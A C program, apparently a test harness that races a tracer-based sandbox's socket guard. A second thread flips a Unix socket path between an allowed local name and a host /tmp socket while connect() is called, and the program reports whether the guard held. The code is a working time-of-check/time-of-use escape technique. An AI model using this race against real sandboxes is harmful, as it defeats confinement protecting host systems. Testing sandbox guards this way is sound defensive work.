/* Races the tracer's socket guard: a second thread flips the address between a name in the working
 * folder (allowed, and absent) and a Unix socket of the host's /tmp while the main thread connects, so
 * that the guard reads the first and the kernel the second. Bounded: at most TRIES connects.
 * Usage: socket_race SOCKET_NAME (a name in /tmp) [TRIES] */
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static struct sockaddr_un un;
static char outside[sizeof un.sun_path];
static atomic_int done;

static void* flip(void* arg) {
  (void)arg;
  while (!atomic_load(&done)) {
    memcpy(un.sun_path, outside, sizeof outside);
    memcpy(un.sun_path, "inside.sock", sizeof "inside.sock");
  }
  return NULL;
}

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const int tries = argc > 2 ? atoi(argv[2]) : 2000;
  un.sun_family = AF_UNIX;
  snprintf(outside, sizeof outside, "/tmp/%s", argv[1]);
  memcpy(un.sun_path, "inside.sock", sizeof "inside.sock");
  pthread_t t;
  if (pthread_create(&t, NULL, flip, NULL) != 0) return 2;
  int refused = 0, absent = 0;
  for (int i = 1; i <= tries; ++i) {
    const int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0) return 2;
    if (connect(s, (struct sockaddr*)&un, sizeof un) == 0) {
      printf("connected after %d tries\n", i);
      fflush(stdout);
      atomic_store(&done, 1);
      pthread_join(t, NULL);
      return 0;
    }
    if (errno == EPERM) ++refused;
    if (errno == ENOENT) ++absent;
    close(s);
  }
  atomic_store(&done, 1);
  pthread_join(t, NULL);
  printf("held: %d tries, %d refused, %d absent\n", tries, refused, absent);
  return 0;
}
